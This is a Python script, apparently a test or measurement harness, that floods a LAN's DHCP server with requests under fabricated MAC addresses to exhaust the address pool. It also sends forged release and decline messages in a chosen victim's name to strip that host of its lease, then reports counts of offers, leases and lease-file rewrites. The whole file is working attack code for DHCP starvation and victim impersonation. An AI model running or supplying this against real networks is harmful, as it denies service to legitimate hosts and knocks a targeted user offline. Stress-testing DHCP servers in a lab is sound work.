#!/usr/bin/env python3
"""starve.py IFACE SECONDS LEASES VICTIM_MAC VICTIM_IP: a LAN host takes all leases it can get, under made-up MACs.

Gives its own back now and then to get new ones, and releases and declines the victim's in the victim's name.
Prints one JSON object; `writes` is how often the lease file LEASES was replaced meanwhile.
"""
import json
import os
import random
import select
import socket
import struct
import sys
import time

iface, seconds, leases = sys.argv[1], float(sys.argv[2]), sys.argv[3]
victim = bytes.fromhex(sys.argv[4].replace(":", ""))
victim_ip = socket.inet_aton(sys.argv[5])
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
raw.bind((iface, 0x0800))
raw.setblocking(False)
own = raw.getsockname()[4]


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def frame(mac, payload):
    udp = struct.pack("!HHHH", 68, 67, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, bytes(4), b"\xff" * 4)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return b"\xff" * 6 + mac + b"\x08\x00" + ip + udp


def option(code, value):
    return bytes([code, len(value)]) + value


def message(mac, kind, extra=b"", ciaddr=bytes(4), sender=None):
    head = struct.pack("!BBBBIHH4s12s16s192s4s", 1, 1, 6, 0, random.getrandbits(32), 0, 0x8000, ciaddr, b"", mac, b"", b"\x63\x82\x53\x63")
    return frame(sender or mac, head + option(53, bytes([kind])) + extra + b"\xff")


def identity(path):
    try:
        st = os.stat(path)
        return st.st_ino, st.st_mtime_ns
    except OSError:
        return None


server = option(54, socket.inet_aton("192.168.1.1"))
begin, sent, offers, acks, naks, writes = time.monotonic(), 0, 0, 0, 0, 0
held, last, number, tick = [], identity(leases), 0, 0


def send(data):
    global sent
    try:
        raw.send(data)
        sent += 1
    except OSError:
        pass


while (now := time.monotonic() - begin) < seconds:
    number += 1
    send(message(b"\x02\xbb" + struct.pack("!I", number), 1, option(12, b"h%d" % number)))
    if now - tick > 0.2:
        tick = now
        # The victim's own lease, in its name.
        send(message(victim, 7, server, victim_ip, own))
        send(message(victim, 4, option(50, victim_ip) + server, sender=own))
        # And some of ours, so that there is room for new ones.
        for mac, address in held[:8]:
            send(message(mac, 7, server, address))
        del held[:8]
    while select.select([raw], [], [], 0.001)[0]:
        try:
            data = raw.recv(4096)
        except OSError:
            break
        p = data[42:]
        if data[23] != 17 or len(p) < 243 or p[0] != 2 or data[34:36] != b"\0\x43":
            continue
        mac, address, at = p[28:34], p[16:20], p.find(b"\x35\x01", 240)
        kind = p[at + 2] if at > 0 else 0
        if mac[:2] != b"\x02\xbb":
            continue
        if kind == 2:
            offers += 1
            send(message(mac, 3, option(50, address) + server + option(12, b"h%d" % offers)))
        elif kind == 5:
            acks += 1
            held.append((mac, address))
        elif kind == 6:
            naks += 1
    if (seen := identity(leases)) != last:
        writes, last = writes + 1, seen
taken = time.monotonic() - begin
print(json.dumps({"sent": sent, "per_second": round(sent / taken), "macs": number, "offers": offers, "leases": acks,
                  "naks": naks, "writes": writes}))
